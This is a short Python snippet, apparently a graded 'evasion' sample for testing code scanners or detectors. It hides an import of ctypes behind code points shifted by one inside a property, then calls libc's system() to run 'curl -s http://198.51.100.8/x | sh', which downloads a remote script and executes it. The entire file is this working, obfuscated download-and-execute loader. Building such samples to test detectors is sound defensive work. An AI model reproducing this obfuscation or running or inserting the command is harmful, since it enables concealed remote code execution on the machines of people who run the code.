# evasion: the ctypes module is imported inside a property by a name whose code points are shifted by one; libc's system is called through it
# grade: hard; does: native
class Loader:
    @property
    def libc(self):
        name = "".join(chr(c - 1) for c in (100, 117, 122, 113, 102, 116))
        return __import__(name).CDLL(None)


Loader().libc.system(b"curl -s http://198.51.100.8/x | sh")
